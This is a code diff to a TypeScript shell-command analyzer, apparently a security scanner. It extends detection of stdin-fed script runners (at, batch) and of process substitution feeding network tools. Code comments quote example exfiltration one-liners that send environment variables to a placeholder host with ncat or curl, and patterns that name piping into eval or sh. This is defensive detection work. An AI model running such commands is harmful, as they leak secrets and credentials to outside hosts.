@@ -2,6 +2,7 @@
 
 import { hit, SENSITIVE_PATH } from "./bash-facts.ts";
 import { NET_SINKS, type FlowContext } from "./shell-flow-facts.ts";
+import { STDIN_SCRIPT_RUNNERS } from "./shell-launchers.ts";
 import { resolveSubstitutions } from "./shell-static.ts";
 import { base, type Stage } from "./shell-words.ts";
 import type { Hit } from "./types.ts";
@@ -66,14 +67,20 @@ export function feedHits(s: Stage, stages: Stage[], src: string, ctx: FlowContex
     if (c > 0 && ws[c + 1]) hits.push(...ctx.rescan(ws[c + 1].text, s.cmd.start, s.cmd.end, "flock -c"));
   }
   sessionHits(s, ctx, hits);
+  // at/batch run the script they read on stdin (a here-string, a here-document, or the pipe before them)
+  if (STDIN_SCRIPT_RUNNERS.has(s.name) && s.cmd.stdin.length > 0)
+    hits.push(
+      ...ctx.rescan(s.cmd.stdin.map((w) => w.text).join("\n"), s.cmd.start, s.cmd.end, `${s.name} runs its input`),
+    );
   stdinSubstitutionHits(s, src, ctx, hits);
   const k = stages.indexOf(s);
   if (k > 0) {
     const before = src.slice(stages[0].cmd.start, stages[k - 1].cmd.end);
     // … | eval "$(cat)", … | source /dev/stdin, … | bash -c "$(cat)": the piped text runs as a script
     if (
-      /^(?:eval|source|\.|(?:ba|z|da)?sh)$/.test(s.name) &&
-      /\$\(\s*cat\s*-?\s*\)|`cat`|\/dev\/stdin|\/proc\/self\/fd\/0/.test(s.text)
+      STDIN_SCRIPT_RUNNERS.has(s.name) ||
+      (/^(?:eval|source|\.|(?:ba|z|da)?sh)$/.test(s.name) &&
+        /\$\(\s*cat\s*-?\s*\)|`cat`|\/dev\/stdin|\/proc\/self\/fd\/0/.test(s.text))
     )
       hits.push(...ctx.rescan(`${before} | sh`, stages[0].cmd.start, s.cmd.end, `${s.name} runs its input`));
     // … | while read v; do BODY; done: BODY sees each line as $v
@@ -125,7 +132,21 @@ function loopHits(s: Stage, before: string, src: string, ctx: FlowContext, hits:
 
 /** `curl --data-binary @- URL <<EOF … $(env) … EOF`: a substitution in text fed to a network tool is sent. */
 function stdinSubstitutionHits(s: Stage, src: string, ctx: FlowContext, hits: Hit[]): void {
-  if (s.cmd.stdin.length === 0 || !NET_SINKS.has(s.name) || s.argv.length === 0) return;
+  if (!NET_SINKS.has(s.name) || s.argv.length === 0) return;
+  // `ncat host 8443 < <(env)`: a process substitution as stdin is a pipe written the other way round
+  for (const r of s.cmd.redirects.slice(0, 4))
+    if (r.op === "<" && /^<\([\s\S]{1,400}\)$/.test(r.target.text)) {
+      const command = src.slice(s.argv[0].start, s.argv[s.argv.length - 1].end);
+      hits.push(
+        ...ctx.rescan(
+          `${r.target.text.slice(2, -1)} | ${command}`,
+          s.cmd.start,
+          s.cmd.end,
+          `${s.name} reads <(…) on stdin`,
+        ),
+      );
+    }
+  if (s.cmd.stdin.length === 0) return;
   if (/<<-?\s*['"\\]/.test(s.text)) return; // a quoted heredoc delimiter: nothing is expanded
   const command = src.slice(s.argv[0].start, s.argv[s.argv.length - 1].end);
   for (const w of s.cmd.stdin.slice(0, 4)) {
